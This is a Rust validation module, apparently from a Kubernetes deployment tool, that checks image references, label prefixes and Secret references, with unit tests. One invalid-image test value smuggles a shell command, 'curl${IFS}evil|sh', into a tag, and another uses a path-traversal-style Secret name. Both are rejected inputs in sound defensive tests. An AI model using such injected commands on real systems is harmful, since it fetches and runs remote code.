//! References the API server or a registry will judge: image references, label-key prefixes,
//! and the Secret names and keys of every credential reference. Checked here the way they are
//! checked there, so a spec `validate` accepts never fails part-way through `apply`.

use serde_json::Value;

use crate::problem::Problems;
use crate::spec::text_rules::is_dns_subdomain;

/// Longest image name accepted (the distribution reference grammar caps a name at 255).
const MAX_IMAGE: usize = 255;

/// Longest whole reference: a name, `:` and a tag of at most 128, `@` and a sha256 digest (71).
const MAX_REFERENCE: usize = MAX_IMAGE + 1 + 128 + 1 + 71;

/// Checks `image` against the distribution reference grammar
/// (github.com/distribution/reference, `reference.go`): `[host[:port]/]path[:tag][@digest]`,
/// path components of lower-case letters and digits joined by `.`, `_`, `__` or `-`, a tag of
/// at most 128 word characters, `.` and `-`, a digest `algorithm:hex`.
pub(crate) fn check_image(out: &mut Problems, field: &str, image: &str) {
    if !is_image_reference(image) {
        let shown: String = image.chars().take(80).collect();
        out.add(
            field,
            format!("\"{}\" is not an image reference", shown.escape_debug()),
            "e.g. cassandra:4.1.7 or registry.example.com:5000/team/zookeeper@sha256:<hex>, or \
             remove it to use the catalog's image",
        );
    }
}

fn is_image_reference(image: &str) -> bool {
    if image.is_empty() || image.len() > MAX_REFERENCE {
        return false;
    }
    let (rest, digest) = match image.split_once('@') {
        Some((rest, digest)) => (rest, Some(digest)),
        None => (image, None),
    };
    if digest.is_some_and(|d| !is_digest(d)) {
        return false;
    }
    // A tag follows the last `:` that comes after the last `/` (a `:` before it is a port).
    let last_slash = rest.rfind('/').map_or(0, |i| i + 1);
    let (name, tag) = match rest[last_slash..].rfind(':') {
        Some(i) => (&rest[..last_slash + i], Some(&rest[last_slash + i + 1..])),
        None => (rest, None),
    };
    if tag.is_some_and(|t| !is_tag(t)) || name.len() > MAX_IMAGE {
        return false;
    }
    let mut components: Vec<&str> = name.split('/').collect();
    // The first component is a registry host when it has a `.` or a `:`, or is `localhost`.
    if components.len() > 1 {
        let first = components[0];
        if first.contains(['.', ':']) || first == "localhost" {
            if !is_host(first) {
                return false;
            }
            components.remove(0);
        }
    }
    !components.is_empty() && components.iter().all(|c| is_path_component(c))
}

fn is_host(host: &str) -> bool {
    let (name, port) = host.split_once(':').unwrap_or((host, "1"));
    port.parse::<u16>().is_ok()
        && name.split('.').all(|label| {
            !label.is_empty()
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                && !label.starts_with('-')
                && !label.ends_with('-')
        })
}

/// `[a-z0-9]+` runs joined by `.`, `_`, `__` or one or more `-`.
fn is_path_component(component: &str) -> bool {
    let alnum = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
    if !component.starts_with(alnum) || !component.ends_with(alnum) {
        return false;
    }
    component
        .split(alnum)
        .filter(|separator| !separator.is_empty())
        .all(|separator| {
            matches!(separator, "." | "_" | "__") || separator.chars().all(|c| c == '-')
        })
}

fn is_tag(tag: &str) -> bool {
    !tag.is_empty()
        && tag.len() <= 128
        && tag
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        && tag
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
}

fn is_digest(digest: &str) -> bool {
    digest.split_once(':').is_some_and(|(algorithm, hex)| {
        !algorithm.is_empty()
            && algorithm
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-' | '_'))
            && hex.len() >= 32
            && hex.chars().all(|c| c.is_ascii_hexdigit())
    })
}

/// Why `prefix` (the part of a label key before `/`) is not a DNS-1123 subdomain, if it is not.
pub(crate) fn label_prefix_problem(prefix: &str) -> Option<String> {
    if !is_dns_subdomain(prefix) {
        return Some(format!(
            "the prefix \"{}\" is not a DNS subdomain (lower-case labels separated by '.')",
            prefix.escape_debug()
        ));
    }
    None
}

/// Checks every Secret reference (`{secretName, key}`) in a service's `spec`: the name must be
/// a DNS-1123 subdomain, the key what a Secret's data key may be (`[-._a-zA-Z0-9]+`, at most
/// 253 characters, not `.` or `..`), as the API server requires.
pub(crate) fn check_secret_refs(out: &mut Problems, spec: &Value) {
    walk(out, "spec", spec);
}

fn walk(out: &mut Problems, path: &str, value: &Value) {
    match value {
        Value::Object(map) => {
            if let (Some(Value::String(name)), Some(Value::String(key))) =
                (map.get("secretName"), map.get("key"))
            {
                check_secret_ref(out, path, name, key);
            }
            for (field, inner) in map {
                walk(out, &format!("{path}.{field}"), inner);
            }
        }
        Value::Array(items) => {
            for (i, inner) in items.iter().enumerate() {
                walk(out, &format!("{path}[{i}]"), inner);
            }
        }
        _ => {}
    }
}

fn check_secret_ref(out: &mut Problems, path: &str, name: &str, key: &str) {
    if !is_dns_subdomain(name) {
        out.add(
            &format!("{path}.secretName"),
            format!("\"{}\" is not a Secret name", name.escape_debug()),
            "use lower-case letters, digits, '-' and '.', e.g. billing-pg",
        );
    }
    let key_ok = !key.is_empty()
        && key.len() <= 253
        && key != "."
        && key != ".."
        && key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'));
    if !key_ok {
        out.add(
            &format!("{path}.key"),
            format!("\"{}\" is not a Secret key", key.escape_debug()),
            "use letters, digits, '-', '_' and '.', e.g. admin-password",
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn image_references_are_judged_as_registries_judge_them() {
        for valid in [
            "cassandra:4.1.7",
            "zookeeper",
            "library/redis:7.4",
            "registry.example.com:5000/team/zookeeper:3.9.3",
            "localhost/zk",
            "ghcr.io/org/kafka-ui@sha256:0123456789abcdef0123456789abcdef0123456789abcdef",
            "docker.elastic.co/elasticsearch/elasticsearch:8.17.0",
            "my_org/my__image:v1",
        ] {
            assert!(is_image_reference(valid), "{valid}");
        }
        for invalid in [
            "zookeeper:3.9;curl${IFS}evil|sh",
            "Zookeeper:3.9",
            "zk:",
            "zk@sha256:abc",
            "a b",
            "",
            "-zk",
            "zk..x",
        ] {
            assert!(!is_image_reference(invalid), "{invalid}");
        }
        assert!(!is_image_reference(&"a".repeat(900_009)));
    }

    #[test]
    fn secret_references_get_the_api_servers_rules() {
        let mut out = Problems::default();
        let spec = serde_json::json!({
            "adminPassword": {"secretName": "../Etc\nX", "key": "a/b"},
            "jmx": {"password": {"secretName": "ok-name", "key": ""}},
            "fine": {"secretName": "billing-pg", "key": "admin-password"},
        });
        check_secret_refs(&mut out, &spec);
        let paths: Vec<String> = out
            .into_vec()
            .into_iter()
            .map(|p| p.path.to_string())
            .collect();
        assert_eq!(
            paths,
            [
                "spec.adminPassword.secretName",
                "spec.adminPassword.key",
                "spec.jmx.password.key"
            ]
        );
    }

    #[test]
    fn label_prefixes_are_dns_subdomains() {
        assert_eq!(label_prefix_problem("example.com"), None);
        assert_eq!(label_prefix_problem("team"), None);
        for bad in ["a b", "Example.COM", "-x.io", ""] {
            assert!(label_prefix_problem(bad).is_some(), "{bad}");
        }
    }
}
